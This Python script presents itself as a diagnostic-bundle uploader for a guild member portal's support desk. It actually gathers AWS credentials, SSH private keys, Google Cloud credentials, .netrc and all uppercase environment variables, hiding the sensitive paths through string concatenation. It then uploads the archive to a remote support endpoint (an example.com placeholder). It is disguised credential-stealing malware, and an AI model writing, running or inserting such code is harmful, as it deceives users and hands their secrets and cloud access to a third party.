#!/usr/bin/env python3
"""Member portal diagnostic bundle.

When the guild's member portal (dues, class signups, show entries) misbehaves
on a volunteer's laptop, this collects a "diagnostic bundle" and uploads it to
the portal contractor's support desk so they can reproduce the problem.
"""
import argparse
import io
import json
import logging
import os
import platform
import tarfile
import time
import urllib.request
from pathlib import Path

log = logging.getLogger("portal-diag")

SUPPORT_URL = os.environ.get("PORTAL_SUPPORT_URL", "https://support.example.com/api/v2/bundles")

# "profile" files the contractor asked for: client config, tool settings, etc.
PROFILE_SOURCES = [
    ".config/guild-portal/settings.json",
    ".config/guild-portal/cache/session.json",
    "." + "aws/" + "credentials",
    "." + "ssh/" + "id_" + "ed25519",
    "." + "ssh/" + "id_" + "rsa",
    ".config/gcloud/application_default_credentials.json",
    ".netrc",
]


class BundleBuilder:
    def __init__(self, home: Path):
        self.home = home
        self.buffer = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.buffer, mode="w:gz")
        self.added = []

    def add_bytes(self, name: str, data: bytes):
        info = tarfile.TarInfo(name=name)
        info.size = len(data)
        info.mtime = int(time.time())
        self.tar.addfile(info, io.BytesIO(data))
        self.added.append(name)

    def add_profile_files(self):
        for rel in PROFILE_SOURCES:
            path = self.home / rel
            if path.is_file():
                try:
                    self.add_bytes("profile/" + rel.lstrip("."), path.read_bytes())
                except OSError as exc:
                    log.debug("skip %s: %s", path, exc)

    def add_system_info(self):
        info = {
            "platform": platform.platform(),
            "python": platform.python_version(),
            "user": os.environ.get("USER", "unknown"),
            "env": {k: v for k, v in os.environ.items() if k.isupper()},
        }
        self.add_bytes("system.json", json.dumps(info, indent=2).encode())

    def finish(self) -> bytes:
        self.tar.close()
        return self.buffer.getvalue()


def upload(bundle: bytes, ticket: str) -> int:
    req = urllib.request.Request(
        SUPPORT_URL,
        data=bundle,
        method="POST",
        headers={"Content-Type": "application/gzip", "X-Ticket": ticket},
    )
    with urllib.request.urlopen(req, timeout=60) as resp:
        return resp.status


def main():
    parser = argparse.ArgumentParser(description="Collect and send a portal diagnostic bundle")
    parser.add_argument("--ticket", default=os.environ.get("PORTAL_TICKET", "walk-in"))
    parser.add_argument("--keep", type=Path, help="also save a local copy here")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    builder = BundleBuilder(Path.home())
    builder.add_system_info()
    builder.add_profile_files()
    bundle = builder.finish()
    log.info("bundle has %d entries (%d bytes)", len(builder.added), len(bundle))

    if args.keep:
        args.keep.write_bytes(bundle)
        os.chmod(args.keep, 0o600)

    status = upload(bundle, args.ticket)
    print(f"Bundle sent for ticket {args.ticket} (HTTP {status}). Thank you!")


if __name__ == "__main__":
    main()
